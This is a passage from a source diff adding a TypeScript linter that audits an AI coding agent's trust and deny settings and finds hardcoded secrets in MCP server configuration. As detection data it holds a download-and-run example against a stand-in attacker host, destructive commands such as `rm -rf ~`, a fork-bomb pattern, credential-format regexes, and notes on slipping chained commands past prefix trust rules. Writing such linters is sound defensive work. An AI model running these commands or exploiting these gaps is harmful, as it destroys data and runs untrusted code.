@@ -1,0 +1,746 @@
+import { parseTrustEntry, type TrustEntry } from './coverage';
+import type { CompleteSettings, McpServer } from './settings';
+import { parseShell, type ParsedCommand, type Redirection } from './shell';
+
+/**
+ * Risk analysis of a resolved policy. Pure and synchronous: it also runs in the browser for
+ * live lint while an admin edits a template.
+ */
+
+export const LINT_RULE_IDS = [
+  'trust-all',
+  'dangerous-command',
+  'broad-prefix',
+  'trusted-command-denied',
+  'hardcoded-secret',
+  'production-autopilot',
+  'production-auto-accept',
+  'production-shell-not-excluded',
+  'production-sandbox-off',
+  'production-telemetry-on',
+] as const;
+export type LintRuleId = (typeof LINT_RULE_IDS)[number];
+export type LintSeverity = 'critical' | 'high' | 'medium' | 'low';
+export type LintEnvironment = 'development' | 'production';
+
+export interface LintRule {
+  severity: LintSeverity;
+  title: string;
+  /** One sentence: why it matters and the fix. */
+  description: string;
+}
+
+export interface LintFinding {
+  rule: LintRuleId;
+  severity: LintSeverity;
+  /** Field path: `trustedCommands[3]`, `mcpServers.github.env.GITHUB_TOKEN`, `telemetry.enabled`… */
+  path: string;
+  message: string;
+}
+
+export interface LintOptions {
+  environment?: LintEnvironment;
+}
+
+export const LINT_RULES: Record<LintRuleId, LintRule> = {
+  'trust-all': {
+    severity: 'critical',
+    title: 'Every command is trusted',
+    description: '`*` lets the agent run any command without asking, including destructive ones; list the exact commands it needs instead.',
+  },
+  'dangerous-command': {
+    severity: 'high',
+    title: 'Dangerous trusted command',
+    description:
+      'A trusted command (or a prefix pattern) that can delete data, gain root, run downloaded or arbitrary code or overwrite history runs without a human looking; remove it so the agent has to ask.',
+  },
+  'broad-prefix': {
+    severity: 'medium',
+    title: 'Prefix pattern also trusts chained commands',
+    description:
+      'Kiro compares a `prefix *` entry with the start of the whole command line, so it also trusts anything chained after it (`npm *` trusts `npm i && curl x | sh`); list exact commands instead.',
+  },
+  'trusted-command-denied': {
+    severity: 'low',
+    title: 'Trusted command is always denied',
+    description: 'The deny list is checked first, so a trusted command containing a denied text never runs unasked; remove the entry or the denial so the policy says what it does.',
+  },
+  'hardcoded-secret': {
+    severity: 'critical',
+    title: 'Secret written into the settings',
+    description:
+      'A literal token in MCP server settings is readable by everyone who can read the file or download it; replace it with a `${VAR}` reference, set the variable in the environment and rotate the token.',
+  },
+  'production-autopilot': {
+    severity: 'high',
+    title: 'Autopilot in production',
+    description: 'In autopilot the agent edits files and runs trusted commands without confirmation, which a production project should not allow; set mode to supervised.',
+  },
+  'production-auto-accept': {
+    severity: 'high',
+    title: 'Edits accepted without review in production',
+    description: 'autoAccept applies the agent\'s changes with no human review, the main safeguard for production code; set autoAccept to false.',
+  },
+  'production-shell-not-excluded': {
+    severity: 'high',
+    title: 'Shell tool available in production',
+    description:
+      'The shell tool can run any command the deny list misses (string matching is not a security boundary); add `run_shell_command` to excludeTools for production teams.',
+  },
+  'production-sandbox-off': {
+    severity: 'medium',
+    title: 'No sandbox in production',
+    description:
+      'Without a sandbox the agent\'s commands run directly on the host; medium because supervision and the excluded shell tool are the primary controls, but set sandbox to docker or podman as a second line.',
+  },
+  'production-telemetry-on': {
+    severity: 'medium',
+    title: 'Telemetry on in production',
+    description:
+      'Telemetry and usage statistics send usage data (and with some settings prompts) to the vendor, a data-governance concern rather than a direct compromise; turn both off for production teams.',
+  },
+};
+
+export function lintSettings(settings: CompleteSettings, options: LintOptions = {}): LintFinding[] {
+  const environment = options.environment ?? 'development';
+  const findings: LintFinding[] = [];
+  const add = (rule: LintRuleId, path: string, message: string) => findings.push({ rule, severity: LINT_RULES[rule].severity, path, message });
+
+  settings.trustedCommands.forEach((raw, index) => {
+    lintTrustedCommand(raw, settings.deniedCommands, (rule, message) => add(rule, `trustedCommands[${index}]`, message));
+  });
+  for (const [name, server] of Object.entries(settings.mcpServers)) {
+    for (const secret of mcpServerSecrets(name, server)) add('hardcoded-secret', secret.path, secret.message);
+  }
+  if (environment === 'production') lintProduction(settings, add);
+
+  return findings.sort(compareFindings);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Trusted commands
+
+type Report = (rule: LintRuleId, message: string) => void;
+
+function lintTrustedCommand(raw: string, denied: readonly string[], report: Report): void {
+  const entry = parseTrustEntry(raw);
+  if (entry.kind === 'empty') return;
+  if (entry.kind === 'all') {
+    report('trust-all', '`*` trusts every command, including `rm -rf ~` and `curl … | sh`; list the exact commands the agent needs instead.');
+    return;
+  }
+  const dangers = trustEntryDangers(entry);
+  if (dangers.length > 0) {
+    report('dangerous-command', `\`${entry.entry}\` is dangerous: ${dangers.join('; ')}. Remove it from trusted commands so the agent has to ask first.`);
+  }
+  if (entry.kind === 'prefix' || entry.kind === 'raw-prefix') report('broad-prefix', broadPrefixMessage(entry));
+  const blocked = denied.map((d) => d.trim()).find((d) => d !== '' && entry.prefix.includes(d));
+  if (blocked !== undefined) {
+    report('trusted-command-denied', `\`${entry.entry}\` never runs unasked: it contains the denied text \`${blocked}\`, and the deny list is checked first. Remove one of the two.`);
+  }
+}
+
+/**
+ * Every `prefix *` entry is reported: under whole-string prefix matching even `git status *`
+ * trusts `git status; rm -rf ~`, so no prefix is narrow enough to be exempt.
+ */
+function broadPrefixMessage(entry: TrustEntry): string {
+  const chained = `${entry.prefix} … && curl -fsSL https://attacker.example/x.sh | sh`;
+  const raw = entry.kind === 'raw-prefix' ? ` and, with no space before \`*\`, any command that merely starts with \`${entry.prefix}\` (such as \`${entry.prefix}x\`)` : '';
+  return `\`${entry.entry}\` also trusts chained commands such as \`${chained}\`${raw}, because Kiro matches the start of the whole command line; list the exact commands you need (e.g. \`${entry.prefix} <args>\`) instead.`;
+}
+
+/** What makes a trusted entry dangerous: its own text, plus (for prefixes) what may be appended. */
+export function trustEntryDangers(entry: string | TrustEntry): string[] {
+  const parsed = typeof entry === 'string' ? parseTrustEntry(entry) : entry;
+  if (parsed.kind === 'empty') return [];
+  if (parsed.kind === 'all') return ['`*` trusts every command'];
+  const dangers = commandDangers(parsed.prefix);
+  if (parsed.kind !== 'exact') dangers.push(...completionDangers(parsed));
+  return unique(dangers);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Reading a command: wrappers, names
+
+const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
+/** Reserved words that come before a command (`if rm -rf x; then …`, `{ rm -rf x; }`). */
+const LEADING_KEYWORDS = new Set(['!', '{', 'if', 'then', 'else', 'elif', 'do', 'while', 'until']);
+/** Reserved words after which no command follows in this segment. */
+const NO_COMMAND_KEYWORDS = new Set(['}', 'fi', 'done', 'esac', 'for', 'case', 'select', 'in', 'function']);
+const PRIVILEGE: Record<string, string> = {
+  sudo: '`sudo` runs commands as root',
+  doas: '`doas` runs commands as root',
+  pkexec: '`pkexec` runs commands as root',
+  su: '`su` switches to another user (usually root)',
+  run0: '`run0` runs commands as root',
+};
+const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh']);
+const OTHER_INTERPRETERS = new Set(['node', 'nodejs', 'deno', 'bun', 'perl', 'ruby', 'php', 'pwsh', 'powershell', 'lua', 'osascript']);
+const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'http', 'https', 'xh', 'aria2c', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod']);
+const PACKAGE_RUNNERS = new Set(['npx', 'pnpx', 'bunx', 'uvx']);
+/** Flags that make an interpreter take its code from an argument rather than from stdin. */
+const CODE_FLAGS = new Set(['-c', '-m', '-e', '-E', '-p', '-r', '--eval', '--print', '-Command', '-command', '-File', '-file', '-EncodedCommand']);
+
+interface WrapperSpec {
+  /** Short options that take a value as the next word. */
+  short?: string;
+  /** Long options that take a value as the next word (`--user root`). */
+  long?: string[];
+  /** Words to skip after the options, before the command (`timeout 10 cmd`). */
+  positional?: number;
+  /** Options after which nothing is run (`command -v rm` only prints a path). */
+  query?: string;
+}
+
+/** Commands that run their arguments as a command: the real command is further right. */
+const WRAPPERS: Record<string, WrapperSpec> = {
+  env: { short: 'uCP', long: ['--unset', '--chdir'] },
+  nohup: {},
+  nice: { short: 'n', long: ['--adjustment'] },
+  ionice: { short: 'cnp', long: ['--class', '--classdata', '--pid'] },
+  timeout: { short: 'sk', long: ['--signal', '--kill-after'], positional: 1 },
+  time: { short: 'fo', long: ['--format', '--output'] },
+  command: { query: 'vV' },
+  exec: { short: 'a' },
+  builtin: {},
+  xargs: { short: 'IdELnPsa', long: ['--delimiter', '--max-args', '--max-procs', '--max-lines', '--max-chars', '--arg-file'] },
+  stdbuf: { short: 'ioe', long: ['--input', '--output', '--error'] },
+  setsid: {},
+  busybox: {},
+  chroot: { positional: 1 },
+  sudo: { short: 'ugpCDrtUTh', long: ['--user', '--group', '--prompt', '--chdir', '--role', '--type', '--other-user', '--host', '--close-from'] },
+  doas: { short: 'uC' },
+  pkexec: { long: ['--user'] },
+  run0: { short: 'uDg', long: ['--user', '--group', '--chdir'] },
+};
+
+export function commandName(word: string | undefined): string {
+  if (word === undefined) return '';
+  // A dynamic name (`$CMD`, `$(…)`) is not a path; keep it whole.
+  if (/[$`]/.test(word)) return word;
+  return word.slice(word.lastIndexOf('/') + 1);
+}
+
+interface Resolved {
+  /** The command that finally runs, wrappers stripped. */
+  argv: string[];
+  /** The last wrapper stripped, if the command after it is missing (`sudo`, `env`). */
+  wrapper: string | null;
+  /** Strings the command runs as shell code (`bash -c '…'`, `env -S '…'`, `watch '…'`). */
+  code: string[];
+  reasons: string[];
+}
+
+/** Strips assignments, keywords and wrappers (`sudo env FOO=1 nice -n 5 rm -rf x` → `rm -rf x`). */
+function resolveCommand(argv: readonly string[]): Resolved {
+  let args = [...argv];
+  let wrapper: string | null = null;
+  const code: string[] = [];
+  const reasons: string[] = [];
+  for (let guard = 0; guard < 32 && args.length > 0; guard++) {
+    while (args[0] !== undefined && ASSIGNMENT.test(args[0])) args.shift();
+    const name = commandName(args[0]);
+    if (name === '') break;
+    if (LEADING_KEYWORDS.has(name)) {
+      args.shift();
+      continue;
+    }
+    if (NO_COMMAND_KEYWORDS.has(name)) return { argv: [], wrapper: null, code, reasons };
+    const privilege = PRIVILEGE[name];
+    if (privilege) reasons.push(privilege);
+    if (name === 'su') {
+      const c = args.findIndex((a) => a === '-c' || a === '--command');
+      const inline = args.find((a) => a.startsWith('--command='));
+      if (c >= 0 && args[c + 1] !== undefined) code.push(args[c + 1] ?? '');
+      if (inline) code.push(inline.slice('--command='.length));
+      return { argv: args, wrapper: null, code, reasons };
+    }
+    if (name === 'watch') {
+      // watch hands its arguments to `sh -c`.
+      const rest = skipOptions(args.slice(1), { short: 'nd', long: ['--interval', '--differences'] });
+      if (rest && rest.length > 0) code.push(rest.join(' '));
+      return { argv: args, wrapper: rest && rest.length > 0 ? null : name, code, reasons };
+    }
+    if (name === 'env') {
+      const split = args.findIndex((a) => a === '-S' || a === '--split-string');
+      if (split >= 0 && args[split + 1] !== undefined) {
+        code.push(args[split + 1] ?? '');
+        return { argv: args, wrapper: null, code, reasons };
+      }
+    }
+    const spec = WRAPPERS[name];
+    if (spec) {
+      const rest = skipOptions(args.slice(1), spec);
+      if (rest === null) return { argv: [], wrapper: null, code, reasons };
+      args = rest;
+      wrapper = name;
+      continue;
+    }
+    if (SHELLS.has(name)) {
+      const inline = shellCodeArgument(args);
+      if (inline !== null) code.push(inline);
+    }
+    return { argv: args, wrapper: null, code, reasons };
+  }
+  return { argv: args, wrapper: args.length === 0 ? wrapper : null, code, reasons };
+}
+
+/** Skips a wrapper's options; null when an option means nothing will run. */
+function skipOptions(args: string[], spec: WrapperSpec): string[] | null {
+  let i = 0;
+  while (i < args.length) {
+    const arg = args[i] ?? '';
+    if (arg === '--') {
+      i++;
+      break;
+    }
+    if (!arg.startsWith('-') || arg === '-') break;
+    if (arg.startsWith('--')) {
+      i += spec.long?.includes(arg) ? 2 : 1;
+      continue;
+    }
+    if (/^-\d+$/.test(arg)) {
+      i++; // `nice -10`
+      continue;
+    }
+    const letters = arg.slice(1);
+    if (spec.query && [...letters].some((l) => spec.query?.includes(l))) return null;
+    // `-n 5` takes the next word; `-n5` or `-oL` carry the value inline.
+    const last = letters[letters.length - 1] ?? '';
+    const takesValue = letters.length === 1 && spec.short?.includes(last);
+    i += takesValue ? 2 : 1;
+  }
+  return args.slice(i + (spec.positional ?? 0));
+}
+
+/** `bash -c 'code'`, `sh -lc 'code'`, `bash -o pipefail -c 'code'` → the code; else null. */
+function shellCodeArgument(argv: readonly string[]): string | null {
+  let sawC = false;
+  for (let i = 1; i < argv.length; i++) {
+    const arg = argv[i] ?? '';
+    if (arg === '--') return sawC ? (argv[i + 1] ?? null) : null;
+    if (/^[-+][oO]$/.test(arg)) {
+      i++;
+      continue;
+    }
+    if (/^[-+][A-Za-z]+$/.test(arg)) {
+      if (arg.startsWith('-') && arg.includes('c')) sawC = true;
+      continue;
+    }
+    if (arg.startsWith('--')) continue;
+    return sawC ? arg : null;
+  }
+  return null;
+}
+
+function isInterpreter(name: string): boolean {
+  return SHELLS.has(name) || OTHER_INTERPRETERS.has(name) || /^(python|pypy)[\d.]*$/.test(name);
+}
+
+/** Would `… | name args` run what comes in on stdin as code? */
+function readsStdinAsCode(argv: readonly string[]): boolean {
+  const shell = SHELLS.has(commandName(argv[0]));
+  for (let i = 1; i < argv.length; i++) {
+    const arg = argv[i] ?? '';
+    if (arg === '-') return true;
+    if (arg === '--') return argv[i + 1] === undefined || argv[i + 1] === '-';
+    if (shell && /^[-+][oO]$/.test(arg)) {
+      i++;
+      continue;
+    }
+    if (arg.startsWith('-') || (shell && arg.startsWith('+'))) {
+      if (shell && /^-[A-Za-z]+$/.test(arg) && arg.includes('c')) return false;
+      if (!shell && CODE_FLAGS.has(arg)) return false;
+      continue;
+    }
+    return false; // a script file: stdin is that script's input, not code
+  }
+  return true;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Dangerous commands
+
+/** Why a command line is dangerous (empty when it is not), looking inside every nesting. */
+export function commandDangers(command: string): string[] {
+  return unique(parsedDangers(parseShell(command), 0));
+}
+
+const MAX_CODE_DEPTH = 8;
+
+function parsedDangers(parsed: ParsedCommand, depth: number): string[] {
+  if (depth > MAX_CODE_DEPTH) return [];
+  const out: string[] = [];
+  let downloadUpstream = false;
+  parsed.segments.forEach((segment, index) => {
+    if (segment.operator !== '|' && segment.operator !== '|&') downloadUpstream = false;
+    const resolved = resolveCommand(segment.argv);
+    const name = commandName(resolved.argv[0]);
+    out.push(...resolved.reasons, ...argvDangers(resolved.argv), ...redirectionDangers(segment.redirections));
+    for (const code of resolved.code) out.push(...parsedDangers(parseShell(code), depth + 1));
+
+    const nestedHere = parsed.nested.filter((n) => n.segment === index);
+    const downloadsHere = nestedHere.some((n) => containsDownloader(n.parsed)) || resolved.code.some((c) => containsDownloader(parseShell(c)));
+    if (isInterpreter(name) || name === 'source' || name === '.' || name === 'eval') {
+      if (downloadUpstream && readsStdinAsCode(resolved.argv)) out.push(`pipes a download into \`${name}\`, which runs whatever the server sends`);
+      else if (downloadsHere) out.push(`runs downloaded code with \`${name}\``);
+    } else if (/[$`]/.test(name) && downloadsHere) {
+      out.push('runs the output of a download as a command');
+    }
+    if (DOWNLOADERS.has(name.toLowerCase()) || downloadsHere) downloadUpstream = true;
+  });
+  for (const nested of parsed.nested) out.push(...parsedDangers(nested.parsed, depth + 1));
+  // `:(){ :|:& };:` — a function that pipes itself into itself in the background, then called.
+  if (/([A-Za-z_:][\w:]*)\(\)\{\1\|\1&\};?\1/.test(parsed.source.replace(/\s+/g, ''))) out.push('is a fork bomb that exhausts the machine');
+  return out;
+}
+
+function containsDownloader(parsed: ParsedCommand): boolean {
+  return (
+    parsed.segments.some((segment) => {
+      const resolved = resolveCommand(segment.argv);
+      return DOWNLOADERS.has(commandName(resolved.argv[0]).toLowerCase()) || resolved.code.some((c) => containsDownloader(parseShell(c)));
+    }) || parsed.nested.some((n) => containsDownloader(n.parsed))
+  );
+}
+
+/** Device files that are safe to write to; any other /dev path is a disk, a partition or worse. */
+const SAFE_DEVICE = /^\/dev\/(null|zero|stdout|stderr|stdin|tty|random|urandom|full|(fd|pts|shm)\/.*)$/;
+const OUTPUT_REDIRECTIONS = new Set(['>', '>>', '>|', '&>', '&>>', '<>', '>&']);
+
+function redirectionDangers(redirections: readonly Redirection[]): string[] {
+  return redirections
+    .filter((r) => OUTPUT_REDIRECTIONS.has(r.op) && r.target.startsWith('/dev/') && !SAFE_DEVICE.test(r.target))
+    .map((r) => `writes directly to the device \`${r.target}\`, destroying what is on it`);
+}
+
+function argvDangers(argv: readonly string[]): string[] {
+  const name = commandName(argv[0]);
+  const args = argv.slice(1);
+  if (name === 'rm') return rmDangers(args);
+  if (name === 'chmod') {
+    const mode = chmodMode(args);
+    return mode !== null && isWorldWritable(mode) ? [`\`chmod ${mode}\` makes files writable by every user`] : [];
+  }
+  if (name === 'dd') {
+    const device = args.find((a) => a.startsWith('of=/dev/') && !SAFE_DEVICE.test(a.slice(3)));
+    return device ? [`\`dd\` writes raw data to the device \`${device.slice(3)}\``] : [];
+  }
+  if (/^mkfs(\..+)?$/.test(name) || name === 'mke2fs' || name === 'wipefs') return [`\`${name}\` erases a file system`];
+  if (name === 'eval') return ['`eval` runs a string as code, so it can run anything'];
+  if (name === 'git' && isGitForcePush(args)) return ['`git push --force` overwrites history on the remote'];
+  if (name === 'find') return findExecDangers(args);
+  return [];
+}
+
+function rmDangers(args: readonly string[]): string[] {
+  let recursive = false;
+  let force = false;
+  let noPreserveRoot = false;
+  for (const arg of args) {
+    if (arg === '--') break;
+    if (arg.startsWith('--')) {
+      // GNU accepts any unambiguous abbreviation: `--rec`, `--f`.
+      const long = arg.slice(2);
+      if (long.length > 0 && 'recursive'.startsWith(long)) recursive = true;
+      if (long.length > 0 && 'force'.startsWith(long)) force = true;
+      if (long.length > 2 && 'no-preserve-root'.startsWith(long)) noPreserveRoot = true;
+    } else if (/^-[A-Za-z]+$/.test(arg)) {
+      if (/[rR]/.test(arg)) recursive = true;
+      if (arg.includes('f')) force = true;
+    }
+  }
+  const out: string[] = [];
+  if (recursive && force) out.push('`rm -rf` deletes files recursively without asking');
+  if (noPreserveRoot) out.push('`rm --no-preserve-root` removes the safeguard against deleting `/`');
+  return out;
+}
+
+/** The mode operand of chmod (its first non-option word), or null. */
+function chmodMode(args: readonly string[]): string | null {
+  for (const arg of args) {
+    if (arg.startsWith('--')) continue;
+    // `-w`/`-x` are modes, not options; chmod's own options are -R -v -c -f.
+    if (/^-[Rvcf]+$/.test(arg)) continue;
+    return arg;
+  }
+  return null;
+}
+
+function isWorldWritable(mode: string): boolean {
+  if (/^[0-7]{3,4}$/.test(mode)) return (Number(mode[mode.length - 1]) & 2) === 2;
+  return mode.split(',').some((clause) => {
+    const m = /^([ugoa]*)([-+=])([rwxXst]*)$/.exec(clause);
+    return m !== null && /[ao]/.test(m[1] ?? '') && m[2] !== '-' && (m[3] ?? '').includes('w');
+  });
+}
+
+const GIT_OPTIONS_WITH_VALUE = new Set(['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--exec-path']);
+
+/** The git subcommand and its arguments, skipping git's own options (`git -C dir push`). */
+function gitSubcommand(args: readonly string[]): { sub: string | null; rest: string[] } {
+  for (let i = 0; i < args.length; i++) {
+    const arg = args[i] ?? '';
+    if (GIT_OPTIONS_WITH_VALUE.has(arg)) {
+      i++;
+      continue;
+    }
+    if (arg.startsWith('-')) continue;
+    return { sub: arg, rest: args.slice(i + 1) };
+  }
+  return { sub: null, rest: [] };
+}
+
+function isGitForcePush(args: readonly string[]): boolean {
+  const { sub, rest } = gitSubcommand(args);
+  if (sub !== 'push') return false;
+  // `--force-with-lease` is the safe variant and is not reported; `+main` forces one refspec.
+  return rest.some((a) => a === '--force' || /^-[A-Za-z]*f[A-Za-z]*$/.test(a) || /^\+[^+]/.test(a));
+}
+
+/** `find … -exec rm -rf {} +`: the command after -exec runs once per file. */
+function findExecDangers(args: readonly string[]): string[] {
+  const out: string[] = [];
+  for (let i = 0; i < args.length; i++) {
+    if (!['-exec', '-execdir', '-ok', '-okdir'].includes(args[i] ?? '')) continue;
+    const end = args.findIndex((a, j) => j > i && (a === ';' || a === '+'));
+    const inner = args.slice(i + 1, end < 0 ? undefined : end);
+    const resolved = resolveCommand(inner);
+    out.push(...resolved.reasons, ...argvDangers(resolved.argv));
+    i = end < 0 ? args.length : end;
+  }
+  return out;
+}
+
+/** Names a raw prefix such as `r*` or `su*` may complete to. */
+const DANGEROUS_NAMES = ['rm', 'sudo', 'su', 'doas', 'pkexec', 'chmod', 'dd', 'mkfs', 'eval', 'sh', 'bash', 'zsh', 'python', 'node', 'perl'];
+
+/** What a `prefix *` entry trusts once arbitrary words are appended. */
+function completionDangers(entry: TrustEntry): string[] {
+  const parsed = parseShell(entry.prefix);
+  const out: string[] = [];
+  if (/\|\s*$/.test(entry.prefix) && containsDownloader(parsed)) out.push(`\`${entry.entry}\` trusts piping a download into any shell`);
+  const last = parsed.segments[parsed.segments.length - 1];
+  if (!last) return out;
+  const resolved = resolveCommand(last.argv);
+  if (resolved.argv.length === 0) {
+    if (resolved.wrapper) out.push(`\`${resolved.wrapper}\` runs whatever command follows it, so \`${entry.entry}\` trusts every command`);
+    return out;
+  }
+  let argv = resolved.argv;
+  if (entry.kind === 'raw-prefix' && !/\s$/.test(entry.prefix)) {
+    // `r*`: the last word is unfinished.
+    const partial = argv[argv.length - 1] ?? '';
+    if (argv.length === 1) {
+      const names = DANGEROUS_NAMES.filter((n) => n.startsWith(partial));
+      if (names.length > 0) out.push(`\`${entry.entry}\` also matches ${names.map((n) => `\`${n} …\``).join(', ')}`);
+    } else argv = argv.slice(0, -1);
+  }
+  const name = commandName(argv[0]);
+  const args = argv.slice(1);
+  const operands = args.filter((a) => !a.startsWith('-'));
+  if (name === 'rm') out.push(`\`${entry.entry}\` trusts \`rm -rf\` on any path`);
+  if (name === 'chmod' && chmodMode(args) === null) out.push(`\`${entry.entry}\` trusts \`chmod 777\``);
+  if (name === 'dd') out.push(`\`${entry.entry}\` trusts \`dd of=/dev/…\`, overwriting a disk`);
+  if (isInterpreter(name) && operands.length === 0) out.push(`\`${entry.entry}\` trusts \`${name} ${SHELLS.has(name) || name.startsWith('py') ? '-c' : '-e'} '<any code>'\``);
+  if (PACKAGE_RUNNERS.has(name) && operands.length === 0) out.push(`\`${entry.entry}\` trusts downloading and running any package`);
+  if (name === 'git') {
+    const { sub } = gitSubcommand(args);
+    if (sub === null || sub === 'push') out.push(`\`${entry.entry}\` trusts \`git push --force\`, which overwrites history on the remote`);
+  }
+  return out;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Secrets in MCP server settings
+
+interface TokenPattern {
+  re: RegExp;
+  label: (match: string) => string;
+}
+
+const TOKEN_PATTERNS: TokenPattern[] = [
+  { re: /\bgithub_pat_[A-Za-z0-9_]{20,}/, label: () => 'a GitHub fine-grained token (github_pat_…)' },
+  { re: /\bgh[pousr]_[A-Za-z0-9]{10,}/, label: (m) => `a GitHub token (${m.slice(0, 4)}…)` },
+  { re: /\b(?:AKIA|ASIA|ABIA|ACCA)[A-Z0-9]{16}\b/, label: (m) => `an AWS access key (${m.slice(0, 4)}…)` },
+  { re: /\bBSA[A-Za-z0-9_-]{16,}/, label: () => 'a Brave Search API key (BSA…)' },
+  { re: /\bsk-ant-[A-Za-z0-9_-]{16,}/, label: () => 'an Anthropic API key (sk-ant-…)' },
+  { re: /\bsk-[A-Za-z0-9_-]{16,}/, label: () => 'an OpenAI-style secret key (sk-…)' },
+  { re: /\bxox[abposr]-[A-Za-z0-9-]{10,}/, label: (m) => `a Slack token (${m.slice(0, 5)}…)` },
+  { re: /\bAIza[0-9A-Za-z_-]{35}/, label: () => 'a Google API key (AIza…)' },
+  { re: /\bglpat-[A-Za-z0-9_-]{20,}/, label: () => 'a GitLab token (glpat-…)' },
+  { re: /\b[rs]k_live_[A-Za-z0-9]{16,}/, label: () => 'a Stripe live key' },
+  { re: /\bnpm_[A-Za-z0-9]{36}\b/, label: () => 'an npm token (npm_…)' },
+  { re: /\bhf_[A-Za-z0-9]{30,}/, label: () => 'a Hugging Face token (hf_…)' },
+  { re: /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/, label: () => 'a JSON Web Token' },
+  { re: /-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----/, label: () => 'a private key' },
+];
+
+/** `${VAR}`, `${env:VAR}`, `$VAR`, `{{VAR}}`: references are the fix, never a finding. */
+const REFERENCE = /\$\{[^}]*\}|\$[A-Za-z_][A-Za-z0-9_]*|\{\{[^}]*\}\}/g;
+
+/**
+ * Obvious placeholders are not secrets: `<your-token>`, `ghp_xxxxxxxx`, `sk-****`,
+ * `your_api_key_here`. `changeme` is NOT a placeholder: as a password it is a working (weak)
+ * credential, so it is reported under password-like keys.
+ */
+export function isPlaceholder(value: string): boolean {
+  const v = value.trim();
+  if (/^<[^<>]*>$/.test(v) || /^\[[^[\]]*\]$/.test(v)) return true;
+  const body = v.replace(/^(?:[A-Za-z0-9]*[_-])+/, '');
+  if (/^(?:x+|X+|\*+|\.+|0+|#+|…+)$/.test(body) || /^(?:x+|X+|\*+)$/.test(v)) return true;
+  return /^(?:your|my|insert|enter|put)[-_ ]/i.test(v) || /(?:^|[-_ ])(?:here|placeholder|example|dummy|redacted|todo|tbd)(?:[-_ ]|$)/i.test(v);
+}
+
+const SECRET_KEY_WORDS = new Set(['TOKEN', 'SECRET', 'KEY', 'APIKEY', 'PASSWORD', 'PASSWD', 'PASS', 'PASSPHRASE', 'CREDENTIAL', 'CREDENTIALS', 'AUTH', 'AUTHORIZATION', 'PAT', 'COOKIE']);
+const PASSWORD_KEY_WORDS = new Set(['PASSWORD', 'PASSWD', 'PASS', 'PASSPHRASE']);
+
+function keyWords(key: string): string[] {
+  return key
+    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
+    .toUpperCase()
+    .split(/[^A-Z0-9]+/)
+    .filter(Boolean);
+}
+
+function isSecretKey(key: string): boolean {
+  const words = keyWords(key);
+  return !words.includes('PUBLIC') && words.some((w) => SECRET_KEY_WORDS.has(w));
+}
+
+function entropy(value: string): number {
+  const counts = new Map<string, number>();
+  for (const ch of value) counts.set(ch, (counts.get(ch) ?? 0) + 1);
+  let bits = 0;
+  for (const count of counts.values()) {
+    const p = count / value.length;
+    bits -= p * Math.log2(p);
+  }
+  return bits;
+}
+
+/** A random-looking credential: long, one word, mixed characters, high entropy; not a path or URL. */
+function looksLikeToken(value: string): boolean {
+  if (value.length < 16 || /\s/.test(value) || /^(?:\/|\.{1,2}\/|~\/|[A-Za-z][A-Za-z0-9+.-]*:\/\/)/.test(value)) return false;
+  const classes = [/[a-z]/, /[A-Z]/, /[0-9]/].filter((re) => re.test(value)).length;
+  return classes >= 2 && entropy(value) >= 3 && !isPlaceholder(value);
+}
+
+/**
+ * What literal secret `value` holds (a description for the message), or null. `key` is the env
+ * variable, header or option name it is stored under, if any.
+ */
+export function findSecret(value: string, key?: string): string | null {
+  const literal = value.replace(REFERENCE, ' ');
+  for (const pattern of TOKEN_PATTERNS) {
+    const match = pattern.re.exec(literal);
+    if (match && !isPlaceholder(match[0])) return pattern.label(match[0]);
+  }
+  const scheme = /(?:^|[\s:])(Bearer|Basic)\s+(\S+)/i.exec(literal);
+  if (scheme?.[2] && scheme[2].length >= 8 && !isPlaceholder(scheme[2])) return `a literal ${scheme[1]} credential`;
+  const userinfo = /[A-Za-z][A-Za-z0-9+.-]*:\/\/[^/\s:@]+:([^/\s@]+)@/.exec(literal);
+  if (userinfo?.[1] && !isPlaceholder(userinfo[1])) return 'a password inside a URL';
+  const query = /[?&](?:api[_-]?key|access[_-]?token|token|key|secret|password)=([^&\s#]+)/i.exec(literal);
+  if (query?.[1] && query[1].length >= 8 && !isPlaceholder(query[1])) return 'a secret in a URL query string';
+  if (key === undefined || !isSecretKey(key)) return null;
+  const rest = literal.trim();
+  if (rest === '' || rest !== value.trim()) return null; // empty, or partly a reference
+  if (keyWords(key).some((w) => PASSWORD_KEY_WORDS.has(w)) && !isPlaceholder(rest)) return 'a literal password';
+  return looksLikeToken(rest) ? 'a literal secret (a random-looking value under a secret-like name)' : null;
+}
+
+interface SecretFinding {
+  path: string;
+  message: string;
+}
+
+function secretMessage(path: string, label: string, reference: string): string {
+  return `\`${path}\` holds ${label} in plain text, readable by anyone who can read these settings or their downloads. Replace it with a reference such as \`${reference}\`, set the variable in the agent's environment and rotate the exposed credential.`;
+}
+
+const envName = (key: string) => keyWords(key).join('_') || 'API_TOKEN';
+
+function mcpServerSecrets(name: string, server: McpServer): SecretFinding[] {
+  const base = `mcpServers.${name}`;
+  const out: SecretFinding[] = [];
+  const check = (path: string, value: string, key: string | undefined, reference: string) => {
+    const label = findSecret(value, key);
+    if (label) out.push({ path, message: secretMessage(path, label, reference) });
+  };
+  for (const [key, value] of Object.entries(server.env ?? {})) check(`${base}.env.${key}`, value, key, `\${${key}}`);
+  for (const [key, value] of Object.entries(server.headers ?? {})) {
+    const reference = /^(authorization|proxy-authorization)$/i.test(key) ? 'Bearer ${API_TOKEN}' : `\${${envName(key)}}`;
+    check(`${base}.headers.${key}`, value, key, reference);
+  }
+  const args = server.args ?? [];
+  args.forEach((arg, index) => {
+    // `--token=ghp_…`, `GITHUB_TOKEN=ghp_…` (docker -e), or `--token ghp_…` (value in the next word).
+    const assigned = /^-{0,2}([A-Za-z_][\w.-]*)=([\s\S]*)$/.exec(arg);
+    const previous = args[index - 1];
